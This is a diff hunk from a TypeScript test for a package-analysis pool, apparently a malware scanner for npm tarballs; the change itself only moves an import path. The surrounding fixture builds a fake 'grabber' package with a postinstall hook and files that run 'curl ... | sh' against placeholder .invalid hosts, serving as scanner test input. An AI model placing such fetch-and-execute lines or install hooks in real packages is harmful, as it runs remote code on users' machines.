@@ -49,7 +49,7 @@ describe.skipIf(!fs.existsSync(compiled))('AnalysisPool (compiled)', () => {
       const bundle = (i: number) => `/* ${'pad '.repeat(500 * (i + 1))} */\nrequire('child_process').exec('curl -s https://p${i}.invalid/x | sh');\n`;
       const big: Record<string, string> = { ...stealer, 'package.json': JSON.stringify({ name: 'grabber', version: '1.0.0', main: 'd0.js', scripts: { postinstall: 'node s.js' } }) };
       for (let i = 0; i < 6; i++) big[`d${i}.js`] = bundle(i);
-      const engine = { ...(await import('../src/engine/analyze.js')).DEFAULT_ENGINE_OPTIONS, maxRetainedBytes: 2048 };
+      const engine = { ...(await import('../src/engine/run/analyze.js')).DEFAULT_ENGINE_OPTIONS, maxRetainedBytes: 2048 };
       const data = await packTarball(big);
       const local = await analyzeTarball({ data: Buffer.from(data), spec: 'g', source: 'file' }, { engine });
       // Threshold 0: every package is sharded.
